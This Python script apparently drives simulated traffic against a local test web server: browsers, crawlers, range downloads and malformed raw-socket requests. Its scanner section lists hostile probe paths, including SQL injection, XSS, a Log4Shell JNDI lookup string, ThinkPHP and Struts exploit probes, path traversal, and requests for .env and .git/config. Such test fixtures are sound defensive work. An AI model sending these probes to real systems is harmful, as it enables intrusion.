#!/usr/bin/env python3
"""Python clients: visitors, a crawler, a scanner, urllib, and raw sockets.
Usage: clients.py PORT H2_PORT SECONDS

Each client is one thread with its own seeded random numbers, so every run sends
the same requests; only the order between clients depends on timing.
"""
import base64
import http.client
import random
import re
import socket
import ssl
import sys
import threading
import time
import urllib.error
import urllib.parse
import urllib.request

PORT, H2_PORT, SECONDS = int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3])
START = time.monotonic()
SITE = "http://www.example.test"

BROWSERS = [
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Android 14; Mobile; rv:133.0) Gecko/133.0 Firefox/133.0",
    "Lynx/2.9.0dev.12 libwww-FM/2.14 SSL-MM/1.4.1 GNUTLS/3.7.8",
    "w3m/0.5.3+git20230121",
]
ENTRY_REFERERS = [None, None, None, "https://search.example/",
                  "https://news.example.org/item?id=41872", "https://forum.example/t/88/3"]


def until(second):
    time.sleep(max(0, START + second - time.monotonic()))


def connect(source):
    host = "::1" if ":" in source else "127.0.0.1"
    return http.client.HTTPConnection(host, PORT, timeout=10, source_address=(source, 0))


def send(conn, method, path, headers, body=None):
    conn.request(method, path, body, {"Host": "www.example.test", **headers})
    reply = conn.getresponse()
    return reply, reply.read()


# --- Visitors: pages with their css, js and images; later visits get 304 ---------

def visitor(n, source):
    rnd = random.Random(1000 + n)
    agent = BROWSERS[n % len(BROWSERS)]
    texts_only = agent.startswith(("Lynx", "w3m"))
    cache = {}                                        # path -> conditional headers
    moments = sorted(rnd.uniform(0, SECONDS * 0.95) for _ in range(rnd.randint(16, 26)))
    referer = rnd.choice(ENTRY_REFERERS)
    pages = (["/", "/about.html", "/products.html", "/contact.html", "/blog/", "/files/"]
             + [f"/blog/post-{i:02}.html" for i in range(1, 13)])

    def load(conn, path, referer):
        headers = {"User-Agent": agent, "Accept-Encoding": "gzip", **cache.get(path, {})}
        if referer:
            headers["Referer"] = referer
        reply, body = send(conn, "GET", path, headers)
        if reply.status == 200 and reply.getheader("ETag"):
            cache[path] = {"If-None-Match": reply.getheader("ETag"),
                           "If-Modified-Since": reply.getheader("Last-Modified")}
        return reply, body

    def read_page(path, referer):
        conn = connect(source)
        reply, body = load(conn, path, referer)
        if reply.status in (301, 302):
            path = urllib.parse.urlsplit(reply.getheader("Location")).path
            load(conn, path, referer)
        if not texts_only:
            wanted = ["/css/site.css", "/js/app.js", "/img/logo.png"]
            if n % 3 == 0:
                wanted.append("/favicon.ico")
            if path.startswith("/blog/post"):
                wanted.append(f"/img/photo-{(int(path[-7:-5]) - 1) % 8 + 1:02}.png")
            for asset in wanted:
                if asset not in cache or rnd.random() < 0.3:
                    load(conn, asset, SITE + path)
        conn.close()

    for i, moment in enumerate(moments):
        until(moment)
        path = rnd.choice(pages) if i or rnd.random() < 0.5 else "/"
        if rnd.random() < 0.06:
            path = rnd.choice(["/gone-missing.html", "/Products.html", "/blog/post-13.html",
                               "/old-page.html", "/go", "/apple-touch-icon.png"])
        elif rnd.random() < 0.05:
            words = rnd.choice(["tea kettle", "größe 40", "naïve café", "東京 地図", "50% off & more"])
            path = "/blog/?q=" + urllib.parse.quote_plus(words)
        read_page(path, referer)
        referer = SITE + path


def crawler(source, agent):
    conn = connect(source)
    headers = {"User-Agent": agent}
    until(4)
    send(conn, "GET", "/robots.txt", headers)
    _, body = send(conn, "GET", "/sitemap.xml", headers)
    conn.close()
    for round_ in range(2):
        for i, path in enumerate(re.findall(r"<loc>(.*?)</loc>", body.decode())):
            until(6 + round_ * SECONDS / 2 + i * SECONDS / 45)
            conn = connect(source)
            extra = {"If-Modified-Since": "Tue, 02 Jan 2024 12:00:00 GMT"} if round_ else {}
            send(conn, "HEAD" if i % 4 == 3 else "GET", path, {**headers, **extra})
            conn.close()


def scanner(source):
    """Looks for things that are not there: mostly 404, no Referer."""
    paths = """/.env /.git/config /wp-login.php /wp-admin/ /xmlrpc.php /phpmyadmin/index.php
        /admin/ /admin/config.php /backup.zip /db.sql /server-status /cgi-bin/test.cgi
        /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php /solr/admin/info/system?wt=json
        /?id=1'+OR+'1'='1 /blog/?q=<script>alert(1)</script>
        /?x=${jndi:ldap://scan.invalid/a} /index.php?s=/index/%5Cthink%5Capp/invokefunction
        /login.action?redirect:%24%7B1%2B1%7D /%2e%2e/%2e%2e/secret.txt /../../secret.txt
        /..%252f..%252fsecret.txt /.DS_Store /old/ /test/ /new/ /shop/ /api/v1/users
        /.well-known/security.txt /ads.txt /humans.txt /%c0%ae%c0%ae/ /%00 /a%zz""".split()
    agents = ["-scan-/0.2", "Mozilla/5.0 zgrab/0.x", None]
    for i, path in enumerate(paths * 2):
        until(15 + i * SECONDS / 90)
        conn = connect(source)
        headers = {"User-Agent": agents[i % 3]} if agents[i % 3] else {}
        send(conn, "GET", path, headers)
        conn.close()


# --- urllib with its own User-Agent ----------------------------------------------

def urllib_clients():
    plain = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    base4, base6 = f"http://127.0.0.1:{PORT}", f"http://[::1]:{PORT}"
    etag = plain.open(base4 + "/feed.xml").headers["ETag"]
    member = "Basic " + base64.b64encode(b"bob:secret").decode()
    choices = [("/", {}), ("/feed.xml", {"If-None-Match": etag}), ("/api/items?limit=20", {}),
               ("/files/data.json", {"Range": "bytes=0-1023"}), ("/blog/post-01.html", {}),
               ("/private/report.txt", {"Authorization": member}), ("/old-page.html", {}),
               ("/files/" + urllib.parse.quote("überblick.txt"), {}), ("/blog/post-44.html", {}),
               ("/feed.xml", {"If-None-Match": etag}), ("/down/stock", {}), ("/", {})]
    for i in range(200):
        until(1 + i * (SECONDS - 5) / 200)
        path, headers = choices[(i * 5) % len(choices)]
        method = "HEAD" if i % 17 == 0 else None
        request = urllib.request.Request((base6 if i % 4 == 0 else base4) + path,
                                         headers=headers, method=method)
        try:
            plain.open(request).read()
        except urllib.error.HTTPError as e:
            e.read()                     # 304, 404 and 502 are expected


def downloader(source):
    """Fetches the big file in pieces: 206, and once 416."""
    conn = connect(source)
    size = 8 * 1024 * 1024
    for i in range(33):
        until(20 + i * 0.7)
        first = i * 262144
        send(conn, "GET", "/files/big.bin", {"Range": f"bytes={first}-{first + 262143}",
                                             "User-Agent": "ExampleFetch/3.1 (resume)"})
    conn.close()
    assert first == size


# --- Raw sockets: what no ordinary client sends ----------------------------------

HOST = b"Host: x\r\n"
RAW = [  # (bytes, seconds to wait before closing)
    (b"\r\n", 0.2),                                       # an empty request line
    (b"\r\n\r\n\r\n", 0.2),
    (b"\0", 1),
    (b"\0\0\0\0\r\n\r\n", 1),
    (b"GET\r\n\r\n", 1),
    (b"GET /\r\n", 1),                                    # HTTP/0.9
    (b"GET /about.html\r\n", 1),
    (b"get / http/1.1\r\n" + HOST + b"\r\n", 1),
    (b"GET / HTTP/1.1\r\n\r\n", 1),                       # no Host
    (b"GET / HTTP/1.1\r\n" + HOST + HOST + b"\r\n", 1),
    (b"GET / HTTP/1.1\n" + b"Host: x\nConnection: close\n\n", 1),   # bare line feeds: 200
    (b"GET / HTTP/3.0\r\n" + HOST + b"\r\n", 1),          # 505
    (b"GET / HTTP/9.9\r\n" + HOST + b"\r\n", 1),
    (b"GET / HTTP/1\r\n" + HOST + b"\r\n", 1),
    (b"GET  /  HTTP/1.0\r\n\r\n", 1),                     # more than one space
    (b"GET /a b.html HTTP/1.1\r\n" + HOST + b"\r\n", 1),
    (b"GET /tab\there HTTP/1.0\r\n\r\n", 1),
    (b"GET /latin1-\xe9t\xe9 HTTP/1.0\r\n\r\n", 1),       # not UTF-8
    (b"GET /bell\x07\x1b[31mred HTTP/1.0\r\n\r\n", 1),
    (b"GET /?q=a\"b\\c HTTP/1.0\r\n\r\n", 1),
    (b"GET http://www.example.test/about.html HTTP/1.1\r\n" + HOST + b"Connection: close\r\n\r\n", 1),
    (b"CONNECT www.example.test:443 HTTP/1.1\r\n" + HOST + b"\r\n", 1),
    (b"OPTIONS * HTTP/1.0\r\n\r\n", 1),
    (b"TRACE / HTTP/1.0\r\n\r\n", 1),
    (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 1),             # HTTP/2 to the HTTP/1 port
    (b"HELLO WORLD\r\n\r\n", 1),
    (b"SSH-2.0-OpenSSH_9.2p1\r\n", 1),
    (b"EHLO mail.example\r\n", 1),
    (b"*1\r\n$4\r\nPING\r\n", 1),                         # redis
    (b"\x03\0\0\x2a\x25\xe0\0\0\0\0\0Cookie: mstshash=hello\r\n\x01\0\x08\0\0\0\0\0", 1),  # RDP
    (b"\x05\x01\0", 1),                                   # SOCKS5
    (b"\x04\x01\0\x50\x7f\0\0\x01\0", 1),                 # SOCKS4
    (b"{\"id\": 1, \"method\": \"login\", \"params\": [\"x\\\\y\"]}\n", 1),
    (b"\x80\x2b\x01\x03\x01\0\x12\0\0\0\x10", 1),         # SSL 2.0 hello
    (b"GET / HTTP/1.1\r\n" + HOST + b"User-Agent: half a requ", 4),          # 408
    (b"GET /about.ht", 4),                                # 408 in the request line
    (b"POST /api/orders HTTP/1.1\r\n" + HOST + b"Content-Length: 100\r\n\r\nonly this", 4),  # 408
    (b"GET / HTTP/1.1\r\n" + HOST + b"User-Agent: gone be", 0.2),            # closed early: 400
    (b"POST /api/orders HTTP/1.1\r\n" + HOST + b"Content-Length: many\r\n\r\n", 1),
    (b"GET / HTTP/1.1\r\n" + HOST + b"Bad Header: x\r\nConnection: close\r\n\r\n", 1),
    (b"GET / HTTP/1.0\r\nUser-Agent: ctrl \x01\x1f\x7f end\r\n\r\n", 1),
    (b"GET / HTTP/1.0\r\nUser-Agent:    padded   \r\n\r\n", 1),
    (b"GET / HTTP/1.0\r\nUser-Agent: latin1 caf\xe9\r\nReferer: \"\"\r\n\r\n", 1),
    (b"GET / HTTP/1.0\r\nUser-Agent: \\\r\nReferer: \\\"\r\n\r\n", 1),
    (b"GET /slow/1.8 HTTP/1.1\r\n" + HOST + b"User-Agent: impatient/1\r\n\r\n", 0.3),  # 499
    (b"GET /slow/1.7?n=2 HTTP/1.1\r\n" + HOST + b"User-Agent: impatient/1\r\n\r\n", 0.5),
    (b"POST /slow/1.6 HTTP/1.1\r\n" + HOST + b"Content-Length: 2\r\n\r\nok", 0),
]


def raw(source_of, items, first, step):
    for i, (data, wait) in enumerate(items):
        until(first + i * step)
        source = source_of(i)
        family = socket.AF_INET6 if ":" in source else socket.AF_INET
        with socket.socket(family) as s:
            s.bind((source, 0))
            s.connect(("::1" if ":" in source else "127.0.0.1", PORT))
            s.sendall(data)
            s.settimeout(wait or 0.05)
            try:
                while s.recv(65536):
                    pass
            except (TimeoutError, ConnectionResetError):
                pass


def broken_http2():
    """Valid HTTP/2 frames, but no :path: 400, and the request is logged as "-"."""
    preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
    settings = b"\0\0\0\x04\0\0\0\0\0"
    headers = b"\0\0\x02\x01\x05\0\0\0\x01" + b"\x82\x86"     # :method GET, :scheme http
    for i in range(2):
        until(SECONDS * (0.3 + i * 0.4))
        with socket.create_connection(("127.0.0.1", H2_PORT), source_address=("127.0.66.8", 0)) as s:
            s.sendall(preface + settings + headers)
            s.settimeout(1)
            try:
                while s.recv(65536):
                    pass
            except (TimeoutError, ConnectionResetError):
                pass


def tls_to_plain_port():
    """A real TLS handshake sent to the plain port: 400, logged as \\x16\\x03..."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    old = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)        # a short TLS 1.2 hello
    old.check_hostname, old.verify_mode = False, ssl.CERT_NONE
    old.maximum_version = ssl.TLSVersion.TLSv1_2
    old.set_ciphers("ECDHE-RSA-AES128-GCM-SHA256")
    for i, c in enumerate([context, old, old, context]):
        until(30 + i * SECONDS / 6)
        with socket.create_connection(("127.0.0.1", PORT), source_address=("127.0.66.9", 0)) as s:
            try:
                c.wrap_socket(s)
            except (ssl.SSLError, OSError):
                pass


# --- Start everything ------------------------------------------------------------

sources = (["127.0.1.%d" % (10 + i) for i in range(12)] + ["127.10.20.30", "127.44.0.7",
           "127.200.100.50", "127.255.255.254"] + ["::1"] * 8 + ["127.0.0.1"] * 2)
jobs = [(visitor, (n, s)) for n, s in enumerate(sources)]
jobs += [
    (crawler, ("127.0.2.1", "ExampleBot/1.0 (+http://bot.example/)")),
    (crawler, ("127.0.2.2", "Mozilla/5.0 (compatible; TestSpider/2.3; +https://spider.example/faq)")),
    (scanner, ("127.66.6.6",)),
    (downloader, ("127.0.3.1",)),
    (urllib_clients, ()),
    (tls_to_plain_port, ()),
    (broken_http2, ()),
    (raw, (lambda i: "::1" if i % 7 == 6 else "127.0.66.%d" % (i % 4 + 1), RAW, 5, SECONDS / 52)),
]
failed = []


def run(job, args):
    try:
        job(*args)
    except Exception as e:
        failed.append(f"{job.__name__}{args[:2]}: {e!r}")


threads = [threading.Thread(target=run, args=j) for j in jobs]
for t in threads:
    t.start()
for t in threads:
    t.join()
if failed:
    sys.exit("clients.py failed:\n" + "\n".join(failed))
